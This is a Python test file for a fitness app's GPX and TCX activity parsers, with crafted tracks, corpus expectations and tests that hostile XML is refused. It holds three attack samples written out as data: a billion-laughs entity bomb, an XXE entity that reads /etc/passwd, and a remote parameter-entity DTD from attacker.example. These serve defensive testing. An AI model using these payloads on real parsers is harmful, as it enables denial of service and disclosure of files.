"""GPX and TCX parsing and safe XML: crafted files with known answers, the real corpus, hostile XML, fuzzing."""

from __future__ import annotations

import random
import time
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pytest

from stride.activities.parsing import parse
from stride.activities.parsing.gpx import parse_gpx
from stride.activities.parsing.model import ActivityFileError, ParsedActivity
from stride.activities.parsing.tcx import parse_tcx
from stride.activities.parsing.xmlsafe import DTD_MESSAGE, iso_times, numbers, parse_xml
from tests.conftest import CORPUS

MAX = 50_000_000


def ts(text: str) -> float:
    return datetime.fromisoformat(text).timestamp()


def gpx(body: str, *, header: str = "", version: str = "1.1", extra_ns: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{header}\n'
        f'<gpx version="{version}" creator="Test Device"'
        f' xmlns="http://www.topografix.com/GPX/{version.replace(".", "/")}"'
        ' xmlns:gpxtpx="http://www.garmin.com/xmlschemas/TrackPointExtension/v1"'
        ' xmlns:tpx2="http://www.garmin.com/xmlschemas/TrackPointExtension/v2"'
        ' xmlns:pwr="http://www.garmin.com/xmlschemas/PowerExtension/v1"'
        f' xmlns:gpxdata="http://www.cluetrust.com/XML/GPXDATA/1/0"{extra_ns}>\n{body}\n</gpx>'
    ).encode()


def trkpt(t: str, lat: float | str = 46.0, lon: float | str = 14.0, inner: str = "") -> str:
    return f'<trkpt lat="{lat}" lon="{lon}"><time>{t}</time>{inner}</trkpt>'


def tcx(activities: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<TrainingCenterDatabase xmlns="http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2"'
        ' xmlns:ns3="http://www.garmin.com/xmlschemas/ActivityExtension/v2">'
        f"<Activities>{activities}</Activities></TrainingCenterDatabase>"
    ).encode()


def tp(t: str, inner: str = "") -> str:
    return f"<Trackpoint><Time>{t}</Time>{inner}</Trackpoint>"


def pos(lat: float, lon: float) -> str:
    return f"<Position><LatitudeDegrees>{lat}</LatitudeDegrees><LongitudeDegrees>{lon}</LongitudeDegrees></Position>"


def finite(values: np.ndarray) -> int:
    return int(np.isfinite(values).sum())


# ---------------------------------------------------------------- safe XML

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<gpx><trk><name>&lol9;</name></trk></gpx>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<gpx version="1.1"><trk><name>&xxe;</name><trkseg>
<trkpt lat="1" lon="1"><time>2020-01-01T00:00:00Z</time></trkpt></trkseg></trk></gpx>"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<gpx version="1.1"/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, PARAMETER_ENTITIES], ids=["laughs", "xxe", "param"])
def test_documents_with_a_dtd_are_refused_before_parsing(document: bytes) -> None:
    # Given an entity attack (through the one entry point and straight into the parsers)
    # When it is parsed
    # Then it is refused with the DTD message, whatever the entry point
    for attempt in (lambda: parse(document, max_bytes=MAX), lambda: parse_gpx(document), lambda: parse_xml(document)):
        with pytest.raises(ActivityFileError) as caught:
            attempt()
        assert caught.value.message == DTD_MESSAGE


def test_an_entity_declared_without_doctype_is_refused() -> None:
    with pytest.raises(ActivityFileError, match="DTD or entities"):
        parse_xml(b'<gpx><!ENTITY x "y"></gpx>')


def test_an_undefined_entity_reference_is_a_clear_error() -> None:
    # Given a reference to an entity nobody declared (no DTD to expand it)
    with pytest.raises(ActivityFileError) as caught:
        parse_xml(b"<gpx><name>&xxe;</name></gpx>")
    # Then expat refuses it, with the place
    assert "undefined entity" in caught.value.message
    assert "line 1, column" in caught.value.message


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-16-le"])
def test_utf16_documents_with_a_bom_parse(codec: str) -> None:
    # Given a GPX written in UTF-16 with a byte-order mark and a non-ASCII name
    text = gpx(f"<trk><name>Čerknica – jezero</name><trkseg>{trkpt('2020-05-01T10:00:00Z')}</trkseg></trk>")
    text = text.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    data = text.encode(codec)
    if codec != "utf-16":  # the plain codec writes a BOM itself
        data = "\ufeff".encode(codec) + data
    # When it is parsed through the entry point
    activity = parse(data, max_bytes=MAX)
    # Then it is read like its UTF-8 twin
    assert activity.format == "gpx"
    assert activity.name == "Čerknica – jezero"
    assert activity.time.tolist() == [ts("2020-05-01T10:00:00+00:00")]


def test_a_utf16_document_with_a_dtd_is_refused() -> None:
    data = "\ufeff".encode("utf-16-le") + XXE.decode().encode("utf-16-le")
    with pytest.raises(ActivityFileError) as caught:
        parse_xml(data)
    assert caught.value.message == DTD_MESSAGE


def test_malformed_xml_reports_line_and_column() -> None:
    with pytest.raises(ActivityFileError) as caught:
        parse_gpx(b'<gpx version="1.1">\n<trk>\n  <trkseg></trk>\n</gpx>')
    assert caught.value.message == "the file is not valid XML: mismatched tag at line 3, column 12"


def test_a_document_that_is_not_gpx_is_refused_by_the_gpx_parser() -> None:
    with pytest.raises(ActivityFileError, match="not a GPX file"):
        parse_gpx(tcx(""))
    with pytest.raises(ActivityFileError, match="not a TCX file"):
        parse_tcx(gpx(""))


# ---------------------------------------------------------------- values


def test_iso_times_fast_path_and_fallbacks() -> None:
    # Given times with Z, fractions of any length, offsets, mixed suffixes, no zone, junk and gaps
    assert iso_times(["2020-01-01T00:00:00Z", "2020-01-01T00:00:01.5Z"]).tolist() == [1577836800.0, 1577836801.5]
    assert iso_times(["1901-12-13T20:45:52.2073437Z"])[0] == pytest.approx(-2147483647.79266, abs=1e-5)
    assert iso_times(["2021-01-07T21:51:59.179+01:15"])[0] == pytest.approx(ts("2021-01-07T20:36:59.179+00:00"))
    mixed = iso_times(["2020-01-01T01:00:00+01:00", "2020-01-01T00:00:01Z", " 2020-01-01T00:00:02Z\n"])
    assert mixed.tolist() == [1577836800.0, 1577836801.0, 1577836802.0]
    assert iso_times(["2020-01-01T00:00:00"]).tolist() == [1577836800.0]  # no zone: UTC
    # Then what is not a time is NaN, never an exception, and numpy's words ("now", "today") are not times
    junk = iso_times([None, "", "nowZ", "todayZ", "2020Z", "yesterday", "2020-13-45T00:00:00Z", "NaTZ"])
    assert np.isnan(junk).all()
    assert iso_times([None, "2020-01-01T00:00:00Z"])[1] == 1577836800.0


def test_numbers_never_raise() -> None:
    assert numbers(["1", "2.5", " 3 ", None, "", "x", "inf", "nan", "1e400"], repeats=True)[:3].tolist() == [1, 2.5, 3]
    assert np.isnan(numbers([None, "", "x", "inf", "nan", "-1e400"])).all()
    assert numbers(["46.1", "undefined"], repeats=False)[0] == 46.1


# ---------------------------------------------------------------- GPX, crafted


def test_gpx_extensions_of_every_flavour() -> None:
    # Given points with Garmin TPX v1 and v2, PowerExtension, bare <power>, gpxdata, GPX 1.0 <speed>
    body = (
        "<trk><name>Evening ride</name><type>cycling</type><trkseg>"
        + trkpt(
            "2020-05-01T10:00:00Z",
            inner="<ele>100.5</ele><extensions><gpxtpx:TrackPointExtension><gpxtpx:atemp>21</gpxtpx:atemp>"
            "<gpxtpx:hr>120</gpxtpx:hr><gpxtpx:cad>85</gpxtpx:cad></gpxtpx:TrackPointExtension>"
            "<pwr:PowerInWatts>250</pwr:PowerInWatts></extensions>",
        )
        + trkpt(
            "2020-05-01T10:00:01Z",
            inner="<extensions><tpx2:TrackPointExtension><tpx2:wtemp>17.5</tpx2:wtemp><tpx2:hr>121</tpx2:hr>"
            "<tpx2:speed>8.5</tpx2:speed></tpx2:TrackPointExtension><power>251</power></extensions>",
        )
        + trkpt(
            "2020-05-01T10:00:02Z",
            inner="<extensions><gpxdata:hr>122</gpxdata:hr><gpxdata:cadence>87</gpxdata:cadence>"
            "<gpxdata:temp>20.5</gpxdata:temp><gpxdata:distance>15.5</gpxdata:distance></extensions>",
        )
        + "</trkseg></trk>"
    )
    activity = parse_gpx(gpx(body))
    assert activity.heartrate.tolist() == [120, 121, 122]
    assert activity.cadence[[0, 2]].tolist() == [85, 87]
    assert activity.watts[:2].tolist() == [250, 251]
    assert activity.temp.tolist() == [21, 17.5, 20.5]  # air, then water where there is no air temperature
    assert activity.speed[1] == 8.5
    assert activity.distance[2] == 15.5
    assert activity.altitude[0] == 100.5
    # Then what a point does not state is NaN, never 0
    assert np.isnan(activity.cadence[1]) and np.isnan(activity.watts[2]) and np.isnan(activity.altitude[1])
    assert (activity.name, activity.sport, activity.device_name) == ("Evening ride", "Ride", "Test Device")
    assert activity.format == "gpx" and activity.laps == [] and activity.pauses == []


def test_gpx_two_extension_blocks_per_point_as_apple_writes_them() -> None:
    inner = (
        "<ele>6</ele><extensions><gpxtpx:TrackPointExtension><gpxtpx:cad>64</gpxtpx:cad>"
        "</gpxtpx:TrackPointExtension></extensions><extensions><gpxtpx:PowerExtension>"
        "<gpxtpx:PowerInWatts>170</gpxtpx:PowerInWatts></gpxtpx:PowerExtension></extensions>"
    )
    activity = parse_gpx(gpx(f"<trk><trkseg>{trkpt('2025-05-02T15:51:15.692Z', inner=inner)}</trkseg></trk>"))
    assert (activity.cadence[0], activity.watts[0], activity.altitude[0]) == (64, 170, 6)
    assert activity.time[0] == pytest.approx(ts("2025-05-02T15:51:15.692+00:00"))


def test_gpx_segments_and_tracks_make_pauses() -> None:
    # Given two tracks, the first with two segments and an empty one between them
    seg = "<trkseg>{}</trkseg>"
    first = seg.format(trkpt("2020-05-01T10:00:00Z") + trkpt("2020-05-01T10:00:10Z"))
    second = seg.format(trkpt("2020-05-01T10:05:00Z") + trkpt("2020-05-01T10:05:10Z"))
    third = seg.format(trkpt("2020-05-01T11:00:00Z"))
    activity = parse_gpx(gpx(f"<trk>{first}<trkseg></trkseg>{second}</trk><trk>{third}</trk>"))
    # Then each gap between segments with points is a pause, across tracks too
    assert len(activity) == 5
    assert activity.pauses == [
        (ts("2020-05-01T10:00:10+00:00"), ts("2020-05-01T10:05:00+00:00")),
        (ts("2020-05-01T10:05:10+00:00"), ts("2020-05-01T11:00:00+00:00")),
    ]


def test_gpx_overlapping_segments_make_no_pause() -> None:
    segs = f"<trkseg>{trkpt('2020-05-01T10:00:10Z')}</trkseg><trkseg>{trkpt('2020-05-01T10:00:05Z')}</trkseg>"
    activity = parse_gpx(gpx(f"<trk>{segs}</trk>"))
    assert activity.pauses == []
    assert activity.time.tolist() == [ts("2020-05-01T10:00:05+00:00"), ts("2020-05-01T10:00:10+00:00")]


def test_gpx_offsets_and_fractions() -> None:
    points = trkpt("2021-01-07T21:51:59.179+01:15") + trkpt("2021-01-07T20:37:00.1234567Z")
    activity = parse_gpx(gpx(f"<trk><trkseg>{points}</trkseg></trk>"))
    assert activity.time.tolist() == pytest.approx(
        [ts("2021-01-07T20:36:59.179+00:00"), ts("2021-01-07T20:37:00.123456+00:00")]
    )


def test_gpx_same_second_points_merge_and_disorder_is_sorted() -> None:
    points = (
        trkpt("2020-05-01T10:00:02Z", inner="<ele>3</ele>")
        + trkpt("2020-05-01T10:00:00Z", inner="<ele>1</ele>")
        + trkpt("2020-05-01T10:00:00Z", lat=46.5, inner="<extensions><gpxtpx:hr>99</gpxtpx:hr></extensions>")
    )
    activity = parse_gpx(gpx(f"<trk><trkseg>{points}</trkseg></trk>"))
    assert activity.altitude.tolist() == [1, 3]
    assert activity.heartrate[0] == 99 and activity.lat[0] == 46.5


def test_gpx_bad_positions_become_nan_and_the_point_stays() -> None:
    points = (
        trkpt("2020-05-01T10:00:00Z", lat="undefined", lon="undefined", inner="<ele>5</ele>")
        + trkpt("2020-05-01T10:00:01Z", lat=0, lon=0, inner="<ele>6</ele>")
        + trkpt("2020-05-01T10:00:02Z", lat=95, lon=14, inner="<ele>7</ele>")
        + trkpt("2020-05-01T10:00:03Z", lat=46, lon=-181, inner="<ele>8</ele>")
        + trkpt("2020-05-01T10:00:04Z", lat=0, lon=10, inner="<ele>9</ele>")
        + '<trkpt lon="14"><time>2020-05-01T10:00:05Z</time><ele>10</ele></trkpt>'
    )
    activity = parse_gpx(gpx(f"<trk><trkseg>{points}</trkseg></trk>"))
    assert len(activity) == 6
    assert activity.altitude.tolist() == [5, 6, 7, 8, 9, 10]
    assert np.isnan(activity.lat[[0, 1, 2, 3, 5]]).all() and np.isnan(activity.lon[[0, 1, 2, 3, 5]]).all()
    assert (activity.lat[4], activity.lon[4]) == (0, 10)  # on the equator, not null island


def test_gpx_opentracks_pause_markers_become_a_pause() -> None:
    points = (
        trkpt("2021-01-07T21:52:01Z", 3, 14.002)
        + trkpt("2021-01-07T21:52:02Z", 100, 0)
        + trkpt("2021-01-07T21:52:30Z", 200, 0)
        + trkpt("2021-01-07T21:52:31Z", 3, 14.003)
    )
    activity = parse_gpx(gpx(f"<trk><trkseg>{points}</trkseg></trk>"))
    assert len(activity) == 2
    assert activity.pauses == [(ts("2021-01-07T21:52:02+00:00"), ts("2021-01-07T21:52:30+00:00"))]


def test_gpx_10_without_namespace_and_root_name() -> None:
    data = (
        b'<gpx version="1.0"><name>Old file</name><trk><trkseg>'
        b'<trkpt lat="1" lon="2"><ele>3</ele><time>2010-01-01T00:00:00Z</time><speed>4.5</speed></trkpt>'
        b"</trkseg></trk></gpx>"
    )
    activity = parse_gpx(data)
    assert (activity.name, activity.speed[0], activity.altitude[0], activity.device_name) == ("Old file", 4.5, 3, None)


def test_gpx_name_prefers_the_track_then_metadata_and_sport_from_numeric_type() -> None:
    meta = "<metadata><name>File name</name></metadata>"
    point = trkpt("2020-05-01T10:00:00Z")
    assert parse_gpx(gpx(f"{meta}<trk><name>Track</name><type>9</type><trkseg>{point}</trkseg></trk>")).name == "Track"
    activity = parse_gpx(gpx(f"{meta}<trk><type>9</type><trkseg>{point}</trkseg></trk>"))
    assert (activity.name, activity.sport) == ("File name", "Run")
    assert parse_gpx(gpx(f"<trk><type>the category</type><trkseg>{point}</trkseg></trk>")).sport is None


def test_gpx_segment_extensions_are_not_taken_for_the_last_point() -> None:
    # Given a segment with its own <extensions> after its points (allowed by GPX 1.1)
    body = (
        "<trk><trkseg>"
        + trkpt("2020-05-01T10:00:00Z", inner="<extensions><gpxtpx:hr>100</gpxtpx:hr></extensions>")
        + trkpt("2020-05-01T10:00:01Z")
        + "<extensions><gpxtpx:hr>180</gpxtpx:hr></extensions></trkseg></trk>"
    )
    activity = parse_gpx(gpx(body))
    assert activity.heartrate[0] == 100 and np.isnan(activity.heartrate[1])


def test_gpx_points_nested_in_points_are_not_rows() -> None:
    # Given an invalid file where points hide inside other points' extensions
    nested = trkpt("2020-05-01T10:00:09Z", inner="<ele>99</ele>")
    first = trkpt("2020-05-01T10:00:00Z", inner=f"<ele>1</ele><extensions>{nested}{nested}</extensions>")
    second, third = trkpt("2020-05-01T10:00:01Z"), trkpt("2020-05-01T10:01:00Z")
    body = f"<trk><trkseg>{first}{second}</trkseg><trkseg>{third}</trkseg></trk>"
    activity = parse_gpx(gpx(body))
    # Then only the segments' own points are rows
    assert (activity.time - ts("2020-05-01T10:00:00+00:00")).tolist() == [0, 1, 60]
    assert activity.altitude[0] == 1


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("<metadata><time>2023-07-07T16:10:57Z</time></metadata>", "the file has no track points"),
        ('<wpt lat="1" lon="2"><time>2020-01-01T00:00:00Z</time></wpt>', "the file has no track points"),
        (
            '<rte><rtept lat="1" lon="2"><time>2020-01-01T00:00:00Z</time></rtept></rte>',
            "the file has no track points",
        ),
        ("<trk><trkseg></trkseg></trk>", "the file has no track points"),
        (
            '<trk><trkseg><trkpt lat="1" lon="2"><ele>5</ele></trkpt></trkseg></trk>',
            "the file's points have no timestamps",
        ),
        (
            f"<trk><trkseg>{trkpt('1901-12-13T20:45:52.2073437Z')}{trkpt('1970-01-01T00:00:00Z')}</trkseg></trk>",
            "the file's timestamps are not plausible (all before the year 2000 or in the future)",
        ),
        (
            f"<trk><trkseg>{trkpt('2999-01-01T00:00:00Z')}</trkseg></trk>",
            "the file's timestamps are not plausible (all before the year 2000 or in the future)",
        ),
        (
            f'<trk><trkseg>{trkpt("2020-01-01T00:00:00Z")}<trkpt lat="1" lon="1"/><trkpt lat="1" lon="1"/>'
            "</trkseg></trk>",
            "most of the file's points have no timestamps, so it is a route, not an activity",
        ),
        (
            f"<trk><trkseg>{trkpt('2020-01-01T00:00:00Z', 'x', 'y')}</trkseg></trk>",
            "the file's track points carry no positions or sensor readings",
        ),
    ],
    ids=["metadata", "waypoints", "route", "empty-seg", "no-times", "sentinels", "future", "mostly-untimed", "void"],
)
def test_gpx_that_is_not_an_activity(body: str, message: str) -> None:
    with pytest.raises(ActivityFileError) as caught:
        parse_gpx(gpx(body))
    assert caught.value.message == message


def test_gpx_drops_implausible_points_and_keeps_the_rest() -> None:
    points = trkpt("1970-01-01T00:00:00Z") + trkpt("2016-01-15T20:58:59Z") + trkpt("2016-01-15T20:59:07Z")
    activity = parse_gpx(gpx(f"<trk><trkseg>{points}</trkseg></trk>"))
    assert activity.time.tolist() == [ts("2016-01-15T20:58:59+00:00"), ts("2016-01-15T20:59:07+00:00")]


# ---------------------------------------------------------------- TCX, crafted

TPX = "<Extensions><ns3:TPX><ns3:Speed>{speed}</ns3:Speed><ns3:Watts>{watts}</ns3:Watts></ns3:TPX></Extensions>"


def test_tcx_trackpoint_fields_laps_tracks_and_sessions() -> None:
    # Given one ride: lap 1 with two Tracks (a timer stop between them), lap 2 one second after lap 1
    lap1 = (
        '<Lap StartTime="2020-03-06T00:00:00Z"><TotalTimeSeconds>50</TotalTimeSeconds>'
        "<DistanceMeters>300</DistanceMeters><Calories>10</Calories>"
        "<AverageHeartRateBpm><Value>120</Value></AverageHeartRateBpm>"
        "<MaximumHeartRateBpm><Value>150</Value></MaximumHeartRateBpm>"
        "<Track>"
        + tp(
            "2020-03-06T00:00:00Z",
            pos(49.2, -123.1)
            + "<AltitudeMeters>71.5</AltitudeMeters><DistanceMeters>0</DistanceMeters>"
            + "<HeartRateBpm><Value>110</Value></HeartRateBpm><Cadence>80</Cadence>"
            + TPX.format(speed=4.5, watts=160),
        )
        + tp("2020-03-06T00:00:20Z", pos(49.3, -123.2) + "<Cadence>81</Cadence>")
        + "</Track><Track>"
        + tp("2020-03-06T00:01:00Z", pos(49.4, -123.3) + "<HeartRateBpm><Value>140</Value></HeartRateBpm>")
        + "</Track></Lap>"
    )
    lap2 = (
        '<Lap StartTime="2020-03-06T00:01:01Z"><TotalTimeSeconds>10</TotalTimeSeconds>'
        "<DistanceMeters>50</DistanceMeters><Calories>2</Calories>"
        "<AverageHeartRateBpm><Value>150</Value></AverageHeartRateBpm>"
        "<MaximumHeartRateBpm><Value>155</Value></MaximumHeartRateBpm>"
        f"<Track>{tp('2020-03-06T00:01:02Z', pos(0, 0))}</Track></Lap>"
    )
    creator = "<Creator><Name>Forerunner305 (Unit ID 3815748186)</Name></Creator>"
    activity = parse_tcx(tcx(f'<Activity Sport="Biking"><Id>2020-03-06T00:00:00Z</Id>{lap1}{lap2}{creator}</Activity>'))
    t0 = ts("2020-03-06T00:00:00+00:00")
    assert (activity.time - t0).tolist() == [0, 20, 60, 62]
    assert activity.lat[:3].tolist() == [49.2, 49.3, 49.4] and np.isnan(activity.lat[3])  # null island: no fix
    assert activity.heartrate[[0, 2]].tolist() == [110, 140] and np.isnan(activity.heartrate[1])
    assert activity.cadence[:2].tolist() == [80, 81]
    assert (activity.speed[0], activity.watts[0], activity.altitude[0], activity.distance[0]) == (4.5, 160, 71.5, 0)
    assert np.isnan(activity.temp).all()
    # Then the gap between the Tracks of lap 1 is a pause, the lap change is not
    assert activity.pauses == [(t0 + 20, t0 + 60)]
    # And the lap ends at its last trackpoint when the timer time (which leaves out the pause) ends sooner
    assert [(lap.start_time - t0, lap.end_time - t0) for lap in activity.laps] == [(0, 60), (61, 71)]
    assert [lap.total_distance for lap in activity.laps] == [300, 50]
    assert [lap.total_timer_time for lap in activity.laps] == [50, 10]
    (session,) = activity.sessions
    assert (session.sport, session.start_time, session.total_timer_time) == ("Ride", t0, 60)
    assert (session.total_distance, session.total_calories, session.max_heart_rate) == (350, 12, 155)
    assert session.avg_heart_rate == pytest.approx((120 * 50 + 150 * 10) / 60)
    assert (activity.sport, activity.device_name, activity.format) == ("Ride", "Forerunner305", "tcx")


def test_tcx_several_activities_are_one_activity_with_sessions() -> None:
    def leg(sport: str, start: str, times: list[str]) -> str:
        points = "".join(tp(t, pos(45, 5)) for t in times)
        return f'<Activity Sport="{sport}"><Lap StartTime="{start}"><Track>{points}</Track></Lap></Activity>'

    multisport = (
        "<MultiSportSession><FirstSport>"
        + leg("Running", "2020-01-01T10:00:00Z", ["2020-01-01T10:00:00Z", "2020-01-01T10:30:00Z"])
        + "</FirstSport><NextSport>"
        + leg("Biking", "2020-01-01T10:35:00Z", ["2020-01-01T10:35:00Z", "2020-01-01T11:35:00Z"])
        + "</NextSport></MultiSportSession>"
    )
    activity = parse_tcx(tcx(multisport))
    assert len(activity) == 4
    assert [s.sport for s in activity.sessions] == ["Run", "Ride"]
    starts = [ts("2020-01-01T10:00:00+00:00"), ts("2020-01-01T10:35:00+00:00")]
    assert [s.start_time for s in activity.sessions] == starts
    assert activity.sport is None  # legs disagree: the upload decides
    assert activity.pauses == [(ts("2020-01-01T10:30:00+00:00"), ts("2020-01-01T10:35:00+00:00"))]
    both_runs = leg("Running", "2020-01-01T10:00:00Z", ["2020-01-01T10:00:00Z"]) + leg(
        "Other", "2020-01-01T11:00:00Z", ["2020-01-01T11:00:00Z"]
    )
    assert parse_tcx(tcx(both_runs)).sport == "Run"


def test_tcx_run_cadence_fills_in_and_unsorted_times_are_sorted() -> None:
    rc = "<Extensions><ns3:TPX><ns3:RunCadence>88</ns3:RunCadence></ns3:TPX></Extensions>"
    points = tp("2020-01-01T10:00:05Z", pos(45, 5) + rc) + tp("2020-01-01T10:00:01+01:00", pos(45, 5) + rc)
    activity = parse_tcx(tcx(f'<Activity Sport="Running"><Lap><Track>{points}</Track></Lap></Activity>'))
    assert (activity.time - ts("2020-01-01T09:00:00+00:00")).tolist() == [1, 3605]
    assert activity.cadence.tolist() == [88, 88]
    # a lap without StartTime starts at its first trackpoint
    assert activity.laps[0].start_time == activity.time[0]


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (tcx(""), "the file has no track points"),
        (
            b'<TrainingCenterDatabase xmlns="http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2"><Courses>'
            b"<Course><Track><Trackpoint><Time>2020-01-01T00:00:00Z</Time></Trackpoint></Track></Course>"
            b"</Courses></TrainingCenterDatabase>",
            "the file has no track points",
        ),
        (tcx('<Activity Sport="Running"><Lap><Track></Track></Lap></Activity>'), "the file has no track points"),
        (
            tcx(
                f'<Activity Sport="Running"><Lap><Track>{tp("1989-12-31T23:59:59Z", pos(45, 5))}</Track></Lap>'
                "</Activity>"
            ),
            "the file's timestamps are not plausible (all before the year 2000 or in the future)",
        ),
        (
            tcx(f'<Activity Sport="Running"><Lap><Track>{tp("2020-01-01T00:00:00Z")}</Track></Lap></Activity>'),
            "the file's track points carry no positions or sensor readings",
        ),
    ],
    ids=["no-activities", "course", "empty-track", "1989", "time-only"],
)
def test_tcx_that_is_not_an_activity(document: bytes, message: str) -> None:
    with pytest.raises(ActivityFileError) as caught:
        parse_tcx(document)
    assert caught.value.message == message


# ---------------------------------------------------------------- the corpus

# file: (trackpoints in the file as ElementTree counts them (MANIFEST.md), rows after merging same-second
# points, rows with heart rate, rows with a position, sport, pauses, first time, last time)
PARSES: dict[str, tuple[int, int, int, int, str | None, int, str, str]] = {
    "gpx/gc_suunto-movescount-2014.gpx": (669, 669, 0, 669, None, 0,
        "2014-01-16T18:48:44.34", "2014-01-16T19:16:20.79"),
    "gpx/gc_urbanbiker-2019.gpx": (2870, 2870, 2736, 2870, None, 1, "2019-04-18T14:12:19", "2019-04-18T15:16:29.928"),
    "gpx/gpsbabel_globalsat_gh625XT.gpx": (174, 174, 3, 174, None, 1, "2016-01-15T20:58:59", "2016-01-15T21:14:29"),
    "gpx/gpsbabel_subsecond.gpx": (5, 5, 0, 5, None, 0, "2011-07-02T17:47:25.2", "2011-07-02T17:47:26"),
    "gpx/gpxpy_cerknicko-without-elevations.gpx": (296, 295, 0, 295, None, 6,
        "2010-08-05T14:23:59", "2010-08-05T16:23:35"),
    "gpx/gpxpy_track-with-empty-segment.gpx": (9, 9, 0, 9, None, 0, "2013-07-06T17:26:26", "2013-07-06T17:27:42"),
    "gpx/opentracks_pause_resume.gpx": (6, 4, 0, 4, None, 1, "2021-01-07T21:51:59.179", "2021-01-07T21:52:04.103"),
    "gpx/opentracks_timezone.gpx": (1, 1, 0, 1, None, 0, "2021-01-07T20:36:59.179", "2021-01-07T20:36:59.179"),
    "gpx/sportslib_amazfit.gpx": (1216, 1216, 1216, 1216, "Run", 0, "2018-05-14T09:54:12", "2018-05-14T10:36:23"),
    "gpx/sportslib_garmin.gpx": (217, 217, 217, 217, "Run", 0, "2018-04-23T15:54:34", "2018-04-23T16:17:31"),
    "gpx/sportslib_strava-run-2017.gpx": (1038, 1038, 1038, 1038, "Run", 0,
        "2017-03-19T16:49:30", "2017-03-19T17:22:08"),
    "gpx/togeojson_apple_watch_route.gpx": (44, 44, 0, 44, None, 0, "2019-12-15T20:19:55", "2019-12-15T20:20:38"),
    "gpx/togeojson_empty_ele.gpx": (2, 1, 0, 1, None, 0, "2007-05-11T15:22:06", "2007-05-11T15:22:06"),
    "gpx/togeojson_friday-evening-run.gpx": (17, 17, 13, 17, "Run", 2,
        "2025-05-02T15:51:15.692", "2025-05-02T16:34:05"),
    "gpx/togeojson_missing_hr.gpx": (16, 16, 9, 16, None, 2, "2017-05-27T04:00:00", "2017-05-27T04:02:02"),
    "gpx/togeojson_multitrack.gpx": (117, 117, 0, 117, None, 2, "2008-07-12T09:58:23", "2008-07-14T07:09:43"),
    "gpx/togeojson_strava.gpx": (3, 3, 3, 3, None, 0, "2018-05-14T14:54:21", "2018-05-14T17:03:04"),
    "tcx/gc_10k-garmin-fr15.tcx": (686, 686, 0, 686, "Run", 0, "2014-10-11T18:08:45", "2014-10-11T18:45:49"),
    "tcx/gc_2009_01_09-negative-start.tcx": (1439, 1424, 0, 61, "Ride", 0,
        "2009-01-09T19:13:13", "2009-01-09T21:22:40"),
    "tcx/gc_fr910xt-swim.tcx": (85, 85, 0, 0, None, 0, "2015-01-31T09:17:02", "2015-01-31T09:54:36"),
    "tcx/gc_multi-session.tcx": (1893, 1893, 1887, 1325, None, 3, "2011-11-29T12:12:00", "2011-12-07T12:57:37"),
    "tcx/gc_smart-recording-2009.tcx": (1863, 1863, 1863, 1863, "Ride", 0,
        "2009-09-19T13:22:43", "2009-09-19T15:47:28"),
    "tcx/sportslib_polar.tcx": (6313, 6313, 6313, 6313, "Run", 41, "2018-01-21T10:10:59", "2018-01-21T12:06:57.072"),
    "tcx/sportslib_unknown_example.tcx": (752, 745, 745, 745, "Run", 0, "2017-05-09T18:14:32", "2017-05-09T18:43:22"),
    "tcx/stravalib_sample.tcx": (827, 827, 827, 814, "Ride", 3, "2009-02-21T12:57:26", "2009-02-21T15:14:13"),
    "tcx/tcxparser_no_hr.tcx": (384, 384, 0, 383, "Run", 0, "2012-12-26T21:29:53", "2012-12-26T22:03:05"),
    "tcx/tcxparser_sup_activity.tcx": (111, 111, 111, 111, None, 0, "2022-07-16T16:08:25", "2022-07-16T16:26:57"),
    "tcx/tcxreader_cross-country-skiing.tcx": (486, 486, 486, 486, None, 0,
        "2020-12-26T15:14:21", "2020-12-26T15:54:22"),
    "tcx/tcxreader_mapmyride_biking.tcx": (
        3112, 3112, 0, 3105, "Ride", 0, "2022-11-12T15:58:25.8498", "2022-11-12T16:50:16.5264"
    ),
    "tcx/togeojson_garmin_connect.tcx": (317, 317, 0, 316, "Ride", 0, "2020-03-06T00:23:46", "2020-03-06T01:36:18"),
    "tcx/togeojson_tour_hr.tcx": (465, 465, 465, 465, "Ride", 0, "2020-12-27T14:59:36", "2020-12-27T15:07:19"),
    # Decided: null-island and unreadable positions are NaN, the duplicated lap merges by second; what is
    # left is a two-second ride with heart rate and one real position (0, 10) on the equator.
    "bad/togeojson_bad.tcx": (4, 2, 2, 1, "Ride", 0, "2020-12-27T14:59:36", "2020-12-27T14:59:37"),
}  # fmt: skip

REFUSED = {
    "gpx/gc_metadata-only.gpx": "the file has no track points",
    "gpx/togeojson_empty_trk.gpx": "the file has no track points",
    "gpx/gpxpy_cerknicko-without-times.gpx": (  # 291 of 296 points untimed: a route
        "most of the file's points have no timestamps, so it is a route, not an activity"
    ),
    "gpx/gpxpy_mojstrovka.gpx": "the file's timestamps are not plausible (all before the year 2000 or in the future)",
    "bad/gpsbabel_empty.gpx": "the file has no track points",
    "bad/togeojson_bad.gpx": "the file's track points carry no positions or sensor readings",
    "bad/togeojson_bad.kml": "KML files are not supported; Stride accepts FIT, TCX and GPX files, optionally gzipped",
    **{
        f"kml/{path.name}": "KML files are not supported; Stride accepts FIT, TCX and GPX files, optionally gzipped"
        for path in sorted((CORPUS / "kml").glob("*.kml"))
    },
}


def test_every_xml_corpus_file_has_a_decision() -> None:
